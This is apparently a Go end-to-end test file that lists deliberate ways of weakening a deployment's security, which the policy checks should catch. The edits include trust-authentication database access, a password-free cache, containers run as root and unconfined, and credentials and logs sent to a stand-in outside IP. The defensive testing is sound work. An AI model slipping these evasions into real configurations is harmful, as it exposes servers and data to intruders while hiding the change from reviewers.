//go:build e2e

package policy

const (
	databaseServer = "components/database/database.go"
	postgres       = `"config_file=" + workload.FilesDir + "/postgresql.conf"`
	containers     = "internal/workload/container.go"
	volumes        = "internal/workload/volume.go"
	prefectEnv     = "components/prefect/environment.go"
)

// serverEvasions open or endanger the servers behind the edge.
var serverEvasions = []variant{
	{
		name:  "trust for connections without TLS",
		edits: []edit{{"internal/postgresconf/postgresconf.go", "\tfmt.Fprintf(&b, \"host %s %s 127.0.0.1/32", "\tb.WriteString(\"hostnossl all all samenet \\\"trust\\\"\\n\")\n\tfmt.Fprintf(&b, \"host %s %s 127.0.0.1/32"}},
		why:   "all connections are without TLS here, so everybody on the network is whoever they like, the superuser too",
	},
	{
		name: "the access rules that initdb wrote",
		edits: []edit{
			{databaseServer, postgres, postgres + `, "-c", "hba_file=/var/lib/postgresql/18/docker/pg_hba.conf"`},
			{databaseServer, "\t\t\t\"POSTGRES_DB\": ", "\t\t\t\"POSTGRES_HOST_AUTH_METHOD\": \"trust\",\n\t\t\t\"POSTGRES_DB\": "},
		},
		why: "the recorded and mounted pg_hba.conf is fine and not used: the one of the image's entry point trusts everybody on the network",
	},
	{
		name:  "durability off, abbreviated",
		edits: []edit{{databaseServer, postgres, postgres + `, "--fsync=OF", "-cfull_page_writes=F"`}},
		why:   "PostgreSQL understands every abbreviation of off: a crash of the host loses or corrupts the database",
	},
	{
		name:  "a database in memory",
		edits: []edit{{databaseServer, "\t\tShmMiB:      256,", "\t\tShmMiB:      256,\n\t\tTmpfs:       map[string]string{\"/var/lib/postgresql/18\": \"mode=1777\"},"}},
		why:   "the protected volume is mounted where it should be, and a tmpfs inside it takes all data, which is gone with the container",
	},
	{
		name:   "a cache without a password",
		edits:  []edit{{"components/cache/cache.go", "user %s on resetpass %s ~* &* +@all", "user %s on resetpass %s nopass ~* &* +@all"}},
		why:    "every flow can read and write queues and leases; the file is secret and unknown in a preview",
		unseen: "the file holds generated passwords; in an up secrets-redis refuses it",
	},
	{
		name:   "a Prefect API without a credential",
		edits:  []edit{{"internal/prefecttoml/prefecttoml.go", `"api":      map[string]string{"auth_string": s.AuthString}`, `"api":      map[string]string{"auth": s.AuthString}`}},
		why:    "Prefect ignores a key that it does not know, and then asks nobody for a credential: WebSockets, which the edge leaves to it, are open to the outside; unknown in a preview",
		unseen: "the file holds generated passwords; in an up auth-server-credential refuses it",
	},
	{
		name:   "a launcher that drops the credential",
		edits:  []edit{{"components/prefect/files/api.py", "server.create_app = lambda", "from prefect.settings import get_current_settings  # noqa: E402\nget_current_settings().server.api.auth_string = None\nserver.create_app = lambda"}},
		why:    "the setting is there and the program that starts the server forgets it",
		unseen: "what a launcher does is behaviour of reviewed code; the tests of the launchers and TestAccess see it",
	},
	{
		name:  "every origin beside the own one",
		edits: []edit{{prefectEnv, `"PREFECT_SERVER_API_CORS_ALLOWED_ORIGINS":    a.PublicURL,`, `"PREFECT_SERVER_API_CORS_ALLOWED_ORIGINS":    a.PublicURL + ",*",`}},
		why:   "Prefect splits at commas, and then any web page may read the API with the browser's credential",
	},
	{
		name:  "proxies believed from everywhere",
		edits: []edit{{prefectEnv, `a.AppSubnet.String() + ",127.0.0.1"`, `a.AppSubnet.String() + ",*"`}},
		why:   "any flow can say in X-Forwarded-* who it is and under which scheme, which Prefect puts into redirects and logs",
	},
	{
		name:  "messages in the memory of one process",
		edits: []edit{{prefectEnv, `"PREFECT_SERVER_EVENTS_MESSAGING_BROKER":              "prefect_redis.messaging"`, `"PREFECT_SERVER_EVENTS_MESSAGING_BROKER":              "prefect.server.utilities.messaging.memory"`}},
		why:   "two API processes and the services no longer share events: automations miss most of them, and a restart loses the rest",
	},
	{
		name:  "protection taken back",
		edits: []edit{{volumes, "pulumi.RetainOnDelete(true), pulumi.IgnoreChanges([]string{\"labels\"}))...)", "pulumi.RetainOnDelete(true), pulumi.IgnoreChanges([]string{\"labels\"}), pulumi.Protect(false))...)"}},
		why:   "the component says Protect(true), and the last option counts: the data volumes go without a question",
	},
	{
		name:  "a data volume that is a folder of the host",
		edits: []edit{{volumes, "&docker.VolumeArgs{Name: pulumi.String(full)},", "&docker.VolumeArgs{Name: pulumi.String(full), Driver: pulumi.String(\"local\"), DriverOpts: pulumi.StringMap{\"type\": pulumi.String(\"nfs\"), \"o\": pulumi.String(\"addr=203.0.113.20,rw\"), \"device\": pulumi.String(\":/export\")}},"}},
		why:   "database, queue and results lie on one NFS share that everybody can mount, without encryption, and overwrite each other",
	},
}

// containerEvasions take the hardening of all containers away, in ways of writing that Docker understands.
var containerEvasions = []variant{
	{
		name:  "root with a sign",
		edits: []edit{{"components/prefect/prefect.go", `const user = "1001:0"`, `const user = "+0:0"`}},
		why:   "Docker reads the user with strconv.Atoi, so +0 is root, and the program's own check of the first character passes",
	},
	{
		name:  "a right that is given back",
		edits: []edit{{containers, `docker.ContainerCapabilitiesArgs{Drops: pulumi.StringArray{pulumi.String("ALL")}}`, `docker.ContainerCapabilitiesArgs{Drops: pulumi.StringArray{pulumi.String("ALL")}, Adds: pulumi.StringArray{pulumi.String("cap_sys_admin")}}`}},
		why:   "all capabilities are dropped, and in small letters the most powerful one is added",
	},
	{
		name:  "new privileges by another word for no",
		edits: []edit{{containers, `"no-new-privileges:true"`, `"no-new-privileges=F"`}},
		why:   "Docker reads the value as a Go boolean: the option is there and off, and setuid programs give root",
	},
	{
		name:  "no seccomp in the old spelling",
		edits: []edit{{containers, `pulumi.String("no-new-privileges:true")`, `pulumi.String("no-new-privileges:true"), pulumi.String("seccomp:unconfined"), pulumi.String("apparmor=unconfined")`}},
		why:   "containers may use every system call of the host's kernel",
	},
	{
		name:  "processes of the host",
		edits: []edit{{containers, "\t\tInit:         pulumi.Bool(true),", "\t\tPidMode:      pulumi.String(\"host\"),\n\t\tIpcMode:      pulumi.String(\"host\"),\n\t\tInit:         pulumi.Bool(true),"}},
		why:   "flows see and can signal all processes of their user id on the host, and read their environment and files under /proc",
	},
	{
		name:  "another address for the API",
		edits: []edit{{containers, "\t\tInit:         pulumi.Bool(true),", "\t\tHosts:        docker.ContainerHostArray{docker.ContainerHostArgs{Host: pulumi.String(\"prefect-api\"), Ip: pulumi.String(\"203.0.113.66\")}},\n\t\tInit:         pulumi.Bool(true),"}},
		why:   "workers send the credential of the API to a stranger, in plain HTTP, and run what he answers",
	},
	{
		name: "logs to a stranger",
		edits: []edit{
			{"internal/workload/logging.go", `const logDriver = "local"`, `const logDriver = "gelf"`},
			{"internal/workload/logging.go", `pulumi.StringMap{prefix + "max-size": pulumi.String("10m"), prefix + "max-file": pulumi.String("5")}`, `pulumi.StringMap{"gelf-address": pulumi.String("udp://203.0.113.66:12201")}`},
		},
		why: "all logs, with what flows print, leave the host unencrypted and are not kept on it",
	},
	{
		name:  "a network whose ports need not be published",
		edits: []edit{{"internal/workload/network.go", "\toptions := pulumi.StringMap{}\n", "\toptions := pulumi.StringMap{}\n\tif !internal {\n\t\toptions[\"com.docker.network.bridge.gateway_mode_ipv4\"] = pulumi.String(\"nat-unprotected\")\n\t}\n"}},
		why:   "everything on edge and egress that listens, such as nginx's status server and what flows open, can be reached from the host's network by its own address",
	},
	{
		name: "the way out by an option",
		edits: []edit{
			{"internal/workload/network.go", "pulumi.Bool(internal),", "pulumi.Bool(internal && name != \"db\"),"},
			{"internal/workload/network.go", "\tif internal && name != tokens.NetworkLogs {", "\tif internal && name != tokens.NetworkLogs && name != \"db\" {"},
		},
		why: "the database's network is no longer internal, so its members reach and are reached by the outside",
	},
	{
		name: "a helper beside the edge, of the same component",
		edits: []edit{{"components/proxy/proxy.go", "\tproxy.CACertificate = cert.authority\n", `	helper := args.nginx(releases)
	helper.Role, helper.Entrypoint, helper.Command = Host+"-2", []string{"sh", "-c"}, []string{"printf 'pid /tmp/p; events {} http { client_body_temp_path /tmp/b; proxy_temp_path /tmp/x; fastcgi_temp_path /tmp/f; uwsgi_temp_path /tmp/u; scgi_temp_path /tmp/s; server { listen 4200; location / { proxy_pass http://prefect-api:4200; } } }' >/tmp/c && exec nginx -c /tmp/c -g 'daemon off;'"}
	helper.Ports = []workload.Port{{Address: args.Edge.Address, Published: 4200, Internal: 4200}}
	helper.Health.Command = []string{"curl", "-fs", "http://127.0.0.1:4200/api/health"}
	helper.Networks = []workload.Network{{Name: args.Networks.Edge}, {Name: args.Networks.App}}
	if _, err := workload.Run(ctx, args.Engine, name+"-nginx-2", helper, parent, pulumi.DependsOn(nginx.Ready)); err != nil {
		return nil, err
	}
	proxy.CACertificate = cert.authority
`}},
		why: "a second nginx, child of the proxy, with its image, labels and networks, publishes the API without TLS and credential; its configuration is in its command",
	},
}
